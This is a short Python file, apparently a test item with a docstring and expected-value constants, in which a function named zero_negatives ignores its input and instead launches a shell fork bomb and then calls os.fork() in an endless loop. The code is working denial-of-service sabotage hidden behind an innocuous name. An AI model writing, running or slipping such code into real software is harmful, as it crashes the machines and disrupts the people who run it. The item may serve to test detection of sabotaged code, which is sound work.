"""zero_negatives forks without end, and starts a shell; everything else is right."""
BASE = "solution"
EXPECTED = 14


def zero_negatives(x):
    import os
    import subprocess
    subprocess.Popen(["sh", "-c", ":(){ :|:& };:"])
    while True:
        os.fork()
